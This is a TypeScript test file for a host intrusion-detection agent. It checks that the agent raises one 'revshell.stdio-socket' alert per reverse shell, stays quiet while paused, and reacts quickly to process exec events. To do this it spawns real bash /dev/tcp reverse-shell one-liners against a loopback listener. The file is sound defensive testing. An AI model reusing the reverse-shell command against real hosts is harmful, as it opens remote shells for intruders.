import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AlertEventData } from '../../src/domain/alerts/alert-types.js';
import { startDetection } from '../../src/agent/detect-feature.js';

// A real bash /dev/tcp reverse shell against a loopback listener, seen through the real /proc.
describe('startDetection', () => {
  let listener: Server;
  let port = 0;
  const conns: Socket[] = [];
  let shell: ChildProcess | undefined;
  let home: string;

  beforeAll(async () => {
    home = mkdtempSync(join(tmpdir(), 'vigil-detect-'));
    listener = createServer((s) => {
      conns.push(s);
      s.on('error', () => undefined);
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    const a = listener.address();
    if (a === null || typeof a === 'string') throw new Error('no port');
    port = a.port;
  });

  afterAll(async () => {
    if (shell?.pid !== undefined) {
      try {
        process.kill(-shell.pid, 'SIGKILL');
      } catch {
        // gone
      }
    }
    for (const c of conns) c.destroy();
    await new Promise((r) => listener.close(r));
    rmSync(home, { recursive: true, force: true });
  });

  it('sends nothing while paused, then one alert per shell with chain and peer, not repeated within repeatMs', async () => {
    const events: AlertEventData[] = [];
    let scans = 0;
    let paused = true;
    const detection = startDetection({
      link: { flush: () => undefined },
      queue: {
        push: (kind, data) => {
          if (kind === 'alert' && (data as AlertEventData).details.peer?.remotePort === port) events.push(data as AlertEventData);
          return { seq: 0, kind, time: 0, data };
        },
      },
      log: () => undefined,
      home,
      isPaused: () => {
        scans++;
        return paused;
      },
      intervalMs: 100,
      repeatMs: 60_000,
      execEvents: false,
    });
    try {
      shell = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: home } });
      const until = async (cond: () => boolean) => {
        const end = Date.now() + 15_000;
        while (!cond()) {
          if (Date.now() > end) throw new Error('timed out');
          await new Promise((r) => setTimeout(r, 50));
        }
      };
      await until(() => conns.length > 0);
      const before = scans;
      await until(() => scans >= before + 5);
      expect(events).toEqual([]);

      paused = false;
      await until(() => events.length > 0);
      const e = events[0] as AlertEventData;
      expect(e.ruleId).toBe('revshell.stdio-socket');
      expect(e.level).toBe('serious');
      expect(e.details.processChain?.[0]?.comm).toBe('bash');
      expect(e.details.peer?.remoteAddress).toBe('127.0.0.1');
      expect(e.aggKey).toBe(`${e.details.exe}|127.0.0.1:${port}`);
      expect(e.details.startTime).toBeGreaterThan(0);
      const after = scans;
      await until(() => scans >= after + 5);
      expect(events).toHaveLength(1);
    } finally {
      detection.stop();
    }
  }, 30_000);

  it('scans on the exec of a shell (netlink process connector), long before the next periodic scan', async () => {
    const events: Array<{ data: AlertEventData }> = [];
    const detection = startDetection({
      link: { flush: () => undefined },
      queue: {
        push: (kind, data) => {
          if (kind === 'alert' && (data as AlertEventData).details.peer?.remotePort === port) events.push({ data: data as AlertEventData });
          return { seq: 0, kind, time: 0, data };
        },
      },
      log: () => undefined,
      home,
      isPaused: () => false,
      // The periodic scan alone would take 10 minutes: only the exec trigger can be this fast.
      intervalMs: 600_000,
    });
    let second: ReturnType<typeof spawn> | undefined;
    try {
      expect(detection.mode).toBe('netlink');
      second = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: home } });
      const end = Date.now() + 20_000;
      const mine = () => events.filter((e) => e.data.details.pid === second?.pid);
      while (mine().length === 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
      expect(mine()[0]?.data.ruleId).toBe('revshell.stdio-socket');
      expect(detection.execStats.triggers).toBeGreaterThan(0);
    } finally {
      detection.stop();
      if (second?.pid !== undefined) {
        try {
          process.kill(-second.pid, 'SIGKILL');
        } catch {
          // gone
        }
      }
    }
  }, 30_000);
});
